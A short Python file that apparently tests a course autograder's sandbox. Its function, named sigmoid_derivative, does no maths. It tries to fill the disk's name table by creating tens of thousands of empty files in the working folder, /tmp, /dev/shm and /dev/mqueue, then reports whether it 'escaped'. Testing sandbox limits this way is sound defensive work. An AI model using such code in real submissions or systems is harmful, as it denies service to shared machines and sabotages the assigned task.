"""Makes empty files and folders until the file system has no room for names.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own files
"""

# %% sigmoid_derivative
import os


def sigmoid_derivative(x):
    made = 0
    for folder in (".", "/tmp", "/dev/shm", "/dev/mqueue"):
        try:
            for number in range(50_000):
                os.close(os.open(f"{folder}/course-attack-{number}", os.O_CREAT))
                made += 1
        except OSError:
            pass
    raise RuntimeError(f"ESCAPED: {made} files" if made > 40_000 else "nothing to see")
